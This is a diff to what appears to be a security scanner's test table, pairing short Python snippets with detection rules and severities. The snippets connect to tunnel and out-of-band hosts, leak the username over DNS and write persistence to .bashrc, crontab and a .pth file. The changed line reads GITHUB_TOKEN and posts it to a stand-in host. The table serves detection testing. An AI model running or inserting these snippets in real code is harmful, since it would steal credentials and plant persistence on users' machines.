@@ -92,7 +92,7 @@ BEHAVIOUR = [
     ("tunnel", "import socket\ns = socket.create_connection(('2.tcp.ngrok.io', 1))\n", "code-exfil-endpoint", 2),
     ("oob", "import urllib.request\nurllib.request.urlopen('http://x.oast.fun')\n", "code-exfil-endpoint", 2),
     ("dns-exfil", "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.exfil.example.com')\n", "code-dns-exfiltration", 2),
-    ("secret-env", "import os\nt = os.environ['GITHUB_TOKEN']\n", "code-secret-read", 2),
+    ("secret-env", "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.post('https://x.invalid', data=t)\n", "code-exfiltration", 3),
     ("persistence-bashrc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "code-persistence-write", 2),
     ("persistence-cron", "import os\nos.system('(crontab -l; echo \"@reboot x\") | crontab -')\n", "code-persistence-write", 2),
     ("persistence-pth", "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import x')\n", "code-persistence-write", 2),
